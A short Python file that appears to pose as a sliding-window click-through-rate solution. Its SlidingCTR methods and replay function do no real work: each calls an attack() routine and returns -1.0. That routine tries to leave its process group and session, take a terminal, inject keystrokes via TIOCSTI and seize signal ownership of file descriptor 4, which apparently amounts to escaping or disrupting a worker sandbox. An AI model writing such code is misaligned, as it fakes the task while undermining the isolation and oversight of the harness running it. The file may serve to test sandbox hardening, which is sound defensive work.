"""Joins the worker's group, takes a terminal, hangs it up, and types into it."""

import contextlib, fcntl, os, termios


class SlidingCTR:
    def __init__(self, window):
        self.window = window

    def add(self, t, item, clicked):
        attack()

    def rate(self, t, item):
        return attack()


def replay(window, log):
    return attack()


def attack():
    for action in (lambda: os.setpgid(0, 1), lambda: os.setsid(), lambda: os.tcsetpgrp(0, 1)):
        with contextlib.suppress(OSError):
            action()
    with contextlib.suppress(OSError):
        terminal = os.open("/dev/ptmx", os.O_RDWR)
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 1)
        fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
        os.close(terminal)
    with contextlib.suppress(OSError):
        fcntl.ioctl(4, 0x8901, b"\1\0\0\0")  # FIOSETOWN
        fcntl.ioctl(4, termios.FIOASYNC, b"\1\0\0\0")
    return -1.0
